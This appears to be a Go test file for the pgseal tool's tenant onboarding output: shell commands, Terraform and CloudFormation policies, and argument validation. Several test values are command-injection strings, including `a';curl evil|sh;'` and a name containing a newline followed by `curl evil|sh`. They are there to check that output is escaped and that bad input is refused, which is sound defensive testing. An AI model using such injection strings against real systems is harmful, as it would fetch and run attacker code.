package main

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/legatics/pgseal/proxy/admin"
)

// What is handed to a customer can be read by what they will give it to, and names all that pgseal does and nothing else.
func TestOnboardingForms(t *testing.T) {
	for name, form := range onboardingForms() {
		for _, id := range []string{"", "0123456789abcdef0123456789abcdef"} {
			var out bytes.Buffer
			sheet := onboarding{Tenant: "acme", ID: id, Principal: "arn:aws:iam::444455556666:role/pgseal", Account: "444455556666", Region: "eu-west-1",
				ExternalID: "7F3C", CacheTime: "5m0s", Actions: actions()}
			if err := fillOnboarding(&out, form, sheet); err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			text := out.String()
			if strings.Contains(text, "<no value>") || !strings.Contains(text, sheet.Principal) && name != "terraform" {
				t.Errorf("%s: %s", name, text)
			}
			for _, action := range actions() {
				if !strings.Contains(text, strings.TrimPrefix(action, "kms:")) {
					t.Errorf("%s does not name %s", name, action)
				}
			}
			if id != "" && !strings.Contains(text, id) {
				t.Errorf("%s is not narrowed to the tenant", name)
			}
			document := text
			if name == "terraform" {
				_, document, _ = strings.Cut(text, "<<-JSON")
				document, _, _ = strings.Cut(document, "\n  JSON\n")
				document = strings.ReplaceAll(document, "${data", "{data")
			}
			if name != "text" && name != "grant" && !json.Valid([]byte(document)) {
				t.Errorf("%s is no JSON: %s", name, document)
			}
		}
	}
}

// TestSheetIsPlain: whatever a tenant is called, what a customer pastes does what it looks like.
func TestSheetIsPlain(t *testing.T) {
	const name = `a';curl evil|sh;' "${evil}" %{x} \`
	for form, want := range map[string]string{"text": `pgseal tenant add 'a'\'';curl evil|sh;'\'' "${evil}" %{x} \' --provider`, "terraform": `of a';curl evil|sh;' \"$${evil}\" %%{x} \\ in pgseal"`,
		"cloudformation": `of a';curl evil|sh;' \"${evil}\" %{x} \\ in pgseal"`} {
		var out bytes.Buffer
		sheet := onboarding{Tenant: name, Principal: "arn:aws:iam::444455556666:role/pgseal", Account: "444455556666", Region: "eu-west-1", ExternalID: "7F3C", CacheTime: "5m0s", Actions: actions()}
		if err := fillOnboarding(&out, onboardingForms()[form], sheet); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(out.String(), want) {
			t.Errorf("%s has not %s:\n%s", form, want, out.String())
		}
		if form == "cloudformation" && !json.Valid(out.Bytes()) {
			t.Errorf("no JSON: %s", out.String())
		}
	}
	for word, want := range map[string]string{"acme": "acme", "-x": "'-x'", "": "''", "a b": "'a b'", "$x": "'$x'"} {
		if got := inShell(word); got != want {
			t.Errorf("%q in a shell: %s", word, got)
		}
	}
}

func TestOnboarding(t *testing.T) {
	d := deploy(t)
	principal := []string{"--principal", "arn:aws:iam::444455556666:role/pgseal"}
	known := told[admin.Tenant](d, "tenant", "show", "acme")
	for name, wanted := range map[string]string{"acme": known.ID, "newcomer": "EncryptionContextKeys"} {
		var out bytes.Buffer
		args := append([]string{"pgseal", "tenant", "onboarding", name, "--config", d.config}, principal...)
		if code := runContext(t.Context(), args, &out, &out); code != exitDone || !strings.Contains(out.String(), wanted) {
			t.Errorf("%s: exit %d: %s", name, code, out.String())
		}
	}
	for says, args := range map[string][]string{
		"name the role":     {"tenant", "onboarding", "acme"},
		"there is no forma": append([]string{"tenant", "onboarding", "acme", "--format", "word"}, principal...),
		"should look like":  {"tenant", "onboarding", "acme", "--principal", "pgseal"},
		"region":            append([]string{"tenant", "onboarding", "acme", "--region", "x;y"}, principal...),
		"name the tenant":   append([]string{"tenant", "onboarding"}, principal...),
		"control character": append([]string{"tenant", "onboarding", "acme\ncurl evil|sh"}, principal...),
	} {
		if got := d.refused(exitUsage, args...); !strings.Contains(got, says) {
			t.Errorf("%v says %q", args, got)
		}
	}
}
